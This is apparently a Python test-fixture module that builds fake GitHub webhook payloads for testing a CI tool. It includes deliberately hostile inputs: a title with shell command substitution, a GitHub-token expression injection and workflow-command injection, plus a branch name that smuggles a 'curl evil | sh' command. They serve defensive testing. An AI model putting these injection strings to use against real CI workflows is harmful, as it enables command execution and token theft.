"""GitHub event payloads: the shape that GitHub sends, cut down to what a reader may look at.

Each builder returns a fresh dict; :func:`write_event` puts one where ``GITHUB_EVENT_PATH``
would point. ``base`` and ``head`` are commit ids.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from testing.repositories.git_repo import ZERO_SHA

if TYPE_CHECKING:
    from collections.abc import Iterable, Mapping
    from pathlib import Path

Payload = dict[str, Any]

OWNER, NAME = "acme", "shop"
NUMBER = 12
_WRITER = {"name": "Ada Writer", "email": "ada@example.com"}
HOSTILE_TITLE = (
    "$(touch canary) `x` ${{ github.token }} <!-- rlm-ci --> @everyone\n"
    "::error::pwn\r##[error]x | a | \u202e"
)


def user(login: str = "ada", kind: str = "User") -> Payload:
    return {
        "login": login, "id": sum(map(ord, login)), "node_id": "MDQ6VXNlcjE=", "type": kind,
        "url": f"https://api.github.com/users/{login}", "html_url": f"https://github.com/{login}",
        "site_admin": False,
    }  # fmt: skip


def repository(
    owner: str = OWNER, name: str = NAME, *, fork: bool = False, branch: str = "main"
) -> Payload:
    full = f"{owner}/{name}"
    return {
        "id": 1 + fork, "node_id": "R_kgDOB", "name": name, "full_name": full, "private": False,
        "owner": user(owner, "Organization" if owner == OWNER else "User"), "fork": fork,
        "html_url": f"https://github.com/{full}", "url": f"https://api.github.com/repos/{full}",
        "clone_url": f"https://github.com/{full}.git", "ssh_url": f"git@github.com:{full}.git",
        "default_branch": branch, "visibility": "public",
    }  # fmt: skip


def _frame(action: str | None = None, sender: str = "ada") -> Payload:
    framed: Payload = {"repository": repository(), "sender": user(sender)}
    return {"action": action, **framed} if action else framed


def _side(ref: str, sha: str, repo: Payload | None) -> Payload:
    owner = repo["owner"]["login"] if repo else "ghost"
    return {
        "label": f"{owner}:{ref}", "ref": ref, "sha": sha,
        "user": repo["owner"] if repo else None, "repo": repo,
    }  # fmt: skip


def label(name: str) -> Payload:
    return {
        "id": 1,
        "node_id": "LA_1",
        "name": name,
        "color": "ededed",
        "default": False,
        "description": None,
    }


def pull_request(
    base: str,
    head: str,
    *,
    action: str = "synchronize",
    title: str = "Add taxes",
    body: str | None = "Taxes, as the law has them.",
    labels: Iterable[str] = (),
    base_ref: str = "main",
    head_ref: str = "feature",
    head_repo: Payload | None = None,
    deleted_fork: bool = False,
    author: str = "ada",
    draft: bool = False,
    number: int = NUMBER,
) -> Payload:
    """A ``pull_request`` event (also what ``pull_request_target`` carries), same repository.

    ``head_repo`` makes it one from a fork; ``deleted_fork`` takes the head's repository away.
    """
    head_from = None if deleted_fork else head_repo or repository()
    api = f"https://api.github.com/repos/{OWNER}/{NAME}"
    pull: Payload = {
        "id": 7, "node_id": "PR_7", "number": number, "state": "open", "locked": False,
        "url": f"{api}/pulls/{number}", "html_url": f"https://github.com/{OWNER}/{NAME}/pull/{number}",
        "issue_url": f"{api}/issues/{number}", "title": title, "body": body, "user": user(author),
        "labels": [label(name) for name in labels], "draft": draft, "merged": False,
        "author_association": "CONTRIBUTOR" if head_repo else "MEMBER",
        "merge_commit_sha": None, "base": _side(base_ref, base, repository()),
        "head": _side(head_ref, head, head_from), "commits": 1, "additions": 7, "deletions": 1,
        "changed_files": 2,
    }  # fmt: skip
    event = _frame(action, author) | {"number": number, "pull_request": pull}
    if action == "synchronize":
        event |= {"before": base, "after": head}
    return event


def from_fork(base: str, head: str, **more: Any) -> Payload:
    """A pull request of mallory's fork."""
    fork = repository("mallory", NAME, fork=True)
    return pull_request(base, head, head_repo=fork, author="mallory", **more)


def push(
    before: str,
    after: str,
    *,
    ref: str = "refs/heads/feature",
    forced: bool = False,
    message: str = "Add taxes",
) -> Payload:
    """A ``push`` event; zeros for ``before`` or ``after`` make a new or a deleted branch."""
    created, deleted = before == ZERO_SHA, after == ZERO_SHA
    commit = None if deleted else {
        "id": after, "tree_id": "4" * 40, "distinct": True, "message": message,
        "timestamp": "2026-01-05T09:00:00Z", "author": _WRITER, "committer": _WRITER,
        "added": [], "removed": [],
        "modified": ["src/cart.py"], "url": f"https://github.com/{OWNER}/{NAME}/commit/{after}",
    }  # fmt: skip
    return _frame() | {
        "ref": ref, "before": before, "after": after, "created": created, "deleted": deleted,
        "forced": forced, "base_ref": None, "head_commit": commit,
        "compare": f"https://github.com/{OWNER}/{NAME}/compare/{before[:12]}...{after[:12]}",
        "commits": [commit] if commit else [],
        "pusher": {"name": "ada", "email": "ada@example.com"},
    }  # fmt: skip


def merge_group(base: str, head: str, number: int = NUMBER) -> Payload:
    """A ``merge_group`` event: the merge queue asks for checks of a group of changes.

    Its ref has the number of the last pull request in it.
    """
    return _frame("checks_requested") | {
        "merge_group": {
            "head_sha": head, "head_ref": f"refs/heads/gh-readonly-queue/main/pr-{number}-{base}",
            "base_sha": base, "base_ref": "refs/heads/main",
            "head_commit": {"id": head, "tree_id": "4" * 40, "message": f"Merge #{NUMBER}"},
        }
    }  # fmt: skip


def schedule(cron: str = "17 4 * * 1") -> Payload:
    """A ``schedule`` event: it says when, and carries no change."""
    return {"schedule": cron, "repository": repository(), "workflow": ".github/workflows/ci.yml"}


def workflow_dispatch(
    inputs: Mapping[str, str] | None = None, ref: str = "refs/heads/main"
) -> Payload:
    return _frame() | {
        "ref": ref,
        "inputs": dict(inputs) if inputs else None,
        "workflow": ".github/workflows/ci.yml",
    }


def issue_comment(
    body: str = "/rlm-ci check",
    *,
    on_pull_request: bool = True,
    author: str = "ada",
    author_kind: str = "User",
    association: str = "MEMBER",
    number: int = NUMBER,
) -> Payload:
    """An ``issue_comment`` event: on a pull request it links to it, and has no commit ids."""
    api = f"https://api.github.com/repos/{OWNER}/{NAME}"
    web = f"https://github.com/{OWNER}/{NAME}"
    issue: Payload = {
        "id": 8, "node_id": "I_8", "number": number, "title": "Add taxes", "body": None,
        "state": "open", "user": user(), "labels": [], "locked": False,
        "url": f"{api}/issues/{number}",
        "html_url": f"{web}/{'pull' if on_pull_request else 'issues'}/{number}",
    }  # fmt: skip
    if on_pull_request:
        issue["pull_request"] = {"url": f"{api}/pulls/{number}", "html_url": f"{web}/pull/{number}"}
    comment = {
        "id": 9, "node_id": "IC_9", "body": body, "user": user(author, author_kind),
        "author_association": association, "created_at": "2026-01-05T09:00:00Z",
        "html_url": f"{issue['html_url']}#issuecomment-9", "url": f"{api}/issues/comments/9",
    }  # fmt: skip
    return _frame("created", author) | {"issue": issue, "comment": comment}


def every_event(base: str, head: str) -> dict[str, tuple[str, Payload]]:
    """Case to event name and payload: every event that can bring a change, and odd forms of it."""
    request = pull_request(base, head)
    return {
        "pull request": ("pull_request", request),
        "pull request opened": ("pull_request", pull_request(base, head, action="opened")),
        "pull request without body": ("pull_request", pull_request(base, head, body=None)),
        "pull request, hostile": ("pull_request", pull_request(
            base, head, title=HOSTILE_TITLE, body=HOSTILE_TITLE, head_ref='x";curl${IFS}evil|sh;"',
            labels=["<b>", "a\nb", "@everyone"], author="evil[bot]",
        )),
        "pull request from a fork": ("pull_request", from_fork(base, head)),
        "pull request, fork deleted": ("pull_request", pull_request(base, head, deleted_fork=True)),
        "pull request target": ("pull_request_target", request),
        "pull request target from a fork": ("pull_request_target", from_fork(base, head)),
        "push": ("push", push(base, head)),
        "push, forced": ("push", push(base, head, forced=True)),
        "push of a new branch": ("push", push(ZERO_SHA, head)),
        "push that deletes": ("push", push(head, ZERO_SHA)),
        "push of a tag": ("push", push(ZERO_SHA, head, ref="refs/tags/v1")),
        "merge group": ("merge_group", merge_group(base, head)),
        "schedule": ("schedule", schedule()),
        "workflow dispatch": ("workflow_dispatch", workflow_dispatch()),
        "workflow dispatch with inputs": ("workflow_dispatch", workflow_dispatch({"base": base})),
        "comment on a pull request": ("issue_comment", issue_comment()),
        "comment on an issue": ("issue_comment", issue_comment(on_pull_request=False)),
        "comment by a bot": ("issue_comment", issue_comment(
            author="github-actions[bot]", author_kind="Bot", association="NONE"
        )),
    }  # fmt: skip


def write_event(folder: Path, payload: Payload, name: str = "event.json") -> Path:
    """The file of an event, as ``--event`` or ``GITHUB_EVENT_PATH`` has it."""
    path = folder / name
    path.write_text(json.dumps(payload), encoding="utf-8")
    return path


def actions_environment(event_name: str, event_path: Path, **more: str) -> dict[str, str]:
    """The variables of a GitHub Actions step that tell what happened; keywords are added."""
    return {
        "CI": "true", "GITHUB_ACTIONS": "true", "GITHUB_EVENT_NAME": event_name,
        "GITHUB_EVENT_PATH": str(event_path), "GITHUB_REPOSITORY": f"{OWNER}/{NAME}",
        "GITHUB_SERVER_URL": "https://github.com", "GITHUB_API_URL": "https://api.github.com",
        "GITHUB_RUN_ID": "1", "GITHUB_RUN_ATTEMPT": "1",
        # Their Python is none, and they are about the checks.
        "RLM_CI_REVIEW_ENABLED": "off",
    } | more  # fmt: skip
